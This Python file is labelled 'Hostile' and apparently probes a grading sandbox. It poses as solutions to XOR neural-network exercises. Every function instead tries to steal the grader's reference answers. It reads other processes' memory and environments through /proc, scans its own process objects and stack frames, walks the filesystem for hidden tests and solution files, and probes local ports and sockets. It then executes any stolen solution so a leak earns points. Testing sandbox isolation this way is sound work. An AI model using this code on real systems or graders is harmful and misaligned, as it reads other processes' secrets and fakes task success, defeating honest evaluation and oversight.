# Hostile: hunts for the reference and the expected values outside its own files: other
# processes' memory (/proc/<pid>/mem, the parent's first), their environment, command lines,
# working folders and open files; objects and frames in its own process (gc, inspect); the whole
# filesystem (a time-bounded os.walk('/') for solutions/, hidden tests and quiz keys); and local
# sockets (TCP ports, Unix sockets). Each search ends by raising "HOSTILE-REPORT {json}" with what
# it saw; whatever reference it found, the later calls run, so a leak also shows up as points.
import gc
import inspect
import json
import os
import re
import socket
import sys
import time

# Byte strings that exist only in the scoring process (module names, the solutions path).
NEEDLES = (b"dlbook_reference_", b"solutions/ch06/xor.py", b"tests/sections/ch06/test_xor.py")
_ref = {}


def _glob(pattern):
    """glob.glob without the glob module (a sandbox may offer only what the grader preloaded)."""
    from pathlib import Path
    try:
        return [str(p) for p in Path("/").glob(pattern.lstrip("/"))]
    except (OSError, ValueError):
        return []


def _dump(what, info):
    """The report as JSON of at most 400 characters: numbers first, long lists cut short."""
    info = dict(sorted(info.items(), key=lambda kv: isinstance(kv[1], (list, dict))))
    while True:
        text = json.dumps({"attack": what, **info}, separators=(",", ":"), default=str)
        longest = max((k for k, v in info.items() if isinstance(v, (list, dict)) and v),
                      key=lambda k: len(json.dumps(info[k], default=str)), default=None)
        if len(text) <= 400 or longest is None:
            return text[:400]
        v = info[longest]
        info[longest] = v[:-1] if isinstance(v, list) else dict(list(v.items())[:-1])


_reports = {}


def _report(what, **info):
    _reports[what] = "HOSTILE-REPORT " + _dump(what, info)
    raise RuntimeError(_reports[what])


def _again(what, name):
    """Each search runs once per worker and reports; later calls use what it found (the
    reference, when one turned up: then the leak shows as points) or repeat the report."""
    if name in _ref:
        return True
    if what in _reports:
        raise RuntimeError(_reports[what])
    return False


def _use_reference(path):
    """Load a reference solution found somewhere and keep it."""
    try:
        ns = {"__name__": "stolen"}
        with open(path) as fh:
            exec(compile(fh.read(), path, "exec"), ns)
        if callable(ns.get("fit_linear_model")):
            _ref.update(ns)
            return True
    except Exception:  # noqa: BLE001
        pass
    return False


def _pids():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def fit_linear_model(X, y):
    if _again("proc-mem", "fit_linear_model"):
        return _ref["fit_linear_model"](X, y)
    # Other processes' memory, the parent (the fork server) first.
    start, readable, hits = time.monotonic(), [], []
    pids = [os.getppid()] + [p for p in _pids() if p != os.getppid()]
    for pid in pids:
        if time.monotonic() - start > 1.5:
            break
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
        except OSError:
            continue
        readable.append(pid)
        budget = 64 << 20
        with mem:
            for line in maps:
                addr, perms = line.split()[:2]
                if "r" not in perms or budget <= 0:
                    continue
                lo, hi = (int(x, 16) for x in addr.split("-"))
                try:
                    mem.seek(lo)
                    chunk = mem.read(min(hi - lo, budget))
                except (OSError, ValueError, OverflowError):
                    continue
                budget -= len(chunk)
                for needle in NEEDLES:
                    if needle in chunk:
                        hits.append([pid, needle.decode()])
                        for m in re.finditer(rb"(/[\w./-]{1,200}/)solutions/ch06/xor\.py", chunk):
                            _use_reference(m.group(0).decode(errors="replace"))
    _report("proc-mem", readable=readable[:8], n_readable=len(readable), hits=hits[:4],
            secs=round(time.monotonic() - start, 2))


def relu_net_forward(X, W, c, w, b, return_hidden=False):
    if _again("proc-env", "relu_net_forward"):
        return _ref["relu_net_forward"](X, W, c, w, b, return_hidden)
    # Environment, command lines, working folders, roots and open files of every process.
    seen, paths = {}, set()
    for pid in _pids():
        for what in ("environ", "cmdline"):
            try:
                data = open(f"/proc/{pid}/{what}", "rb").read()
                seen.setdefault(what, []).append(pid)
            except OSError:
                continue
            paths.update(m.decode(errors="replace") for m in re.findall(rb"/[\w./-]{2,200}", data))
        for link in ("cwd", "root"):
            try:
                paths.add(os.readlink(f"/proc/{pid}/{link}"))
                paths.add(f"/proc/{pid}/{link}")
                seen.setdefault(link, []).append(pid)
            except OSError:
                pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                paths.add(os.readlink(f"/proc/{pid}/fd/{fd}"))
            seen.setdefault("fd", []).append(pid)
        except OSError:
            pass
    found = []
    for p in sorted(paths):
        for up in range(5):
            cand = os.path.join(p, *([".."] * up), "solutions", "ch06", "xor.py")
            if os.path.isfile(cand) and _use_reference(cand):
                found.append(cand)
                break
    _report("proc-env", seen={k: v[:4] for k, v in seen.items()}, n_paths=len(paths), found=found[:3])


def xor_mse_and_grads(X, y, params):
    if _again("own-process", "xor_mse_and_grads"):
        return _ref["xor_mse_and_grads"](X, y, params)
    # Its own process: every object gc knows, every frame on the stack, every module.
    hits = []
    for mod in list(sys.modules):
        if "reference" in mod or mod.startswith(("stolen", "dlbook_")):
            hits.append(mod)
    for frame_info in inspect.stack():
        for name in frame_info.frame.f_locals:
            if name in ("expected", "want", "ref", "reference", "J_ref", "grads_ref"):
                hits.append(f"frame:{frame_info.function}:{name}")
    n_arrays = 0
    for obj in gc.get_objects():
        if isinstance(obj, dict) and obj is not params and \
                {"W", "c", "w", "b"} <= {k for k in obj if isinstance(k, str)}:
            hits.append("params-like dict")
        elif callable(obj) and getattr(obj, "__name__", "") == "xor_mse_and_grads" and \
                getattr(obj, "__module__", "") != __name__:
            hits.append(f"function in {getattr(obj, '__module__', '?')}")
            try:
                return obj(X, y, params)
            except Exception:  # noqa: BLE001
                pass
    _report("own-process", hits=sorted(set(hits))[:6], n_arrays=n_arrays)


def train_xor(hidden=8, lr=0.1, steps=3000, seed=0):
    if _again("filesystem-and-sockets", "train_xor"):
        return _ref["train_xor"](hidden, lr, steps, seed)
    # The whole filesystem (time-bounded) and every local socket.
    start, found = time.monotonic(), []
    mine = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    for dirpath, dirnames, filenames in os.walk("/"):
        if time.monotonic() - start > 1.0:
            break
        if dirpath.startswith(("/proc", "/sys", "/dev")) or dirpath.startswith(mine):
            dirnames[:] = []
            continue
        for f in filenames:
            if f in ("test_xor.py", "quiz_xor.yml", "xor.py") and \
                    dirpath.rstrip("/").endswith(("solutions/ch06", "sections/ch06")):
                found.append(os.path.join(dirpath, f))
                if f == "xor.py":
                    _use_reference(os.path.join(dirpath, f))
    walked = round(time.monotonic() - start, 2)
    connected = []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        for port in (22, 80, 443, 3306, 5432, 6379, 8000, 8080, 8786, 8787, 8888, 9000):
            try:
                s = socket.socket(family, socket.SOCK_STREAM)
                s.settimeout(0.05)
                s.connect((host, port))
                connected.append(f"{host}:{port}")
                s.close()
            except OSError:
                pass
    try:
        unix = [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:] if len(line.split()) >= 8]
    except OSError:
        unix = []
    for path in unix[:50] + _glob("/run/*.sock") + _glob("/var/run/*.sock") + _glob("/tmp/*/*.sock"):
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(0.05)
            s.connect("\0" + path[1:] if path.startswith("@") else path)
            connected.append(path)
            s.close()
        except OSError:
            pass
    _report("filesystem-and-sockets", found=found[:4], walked_secs=walked, connected=connected[:6], n_unix=len(unix))
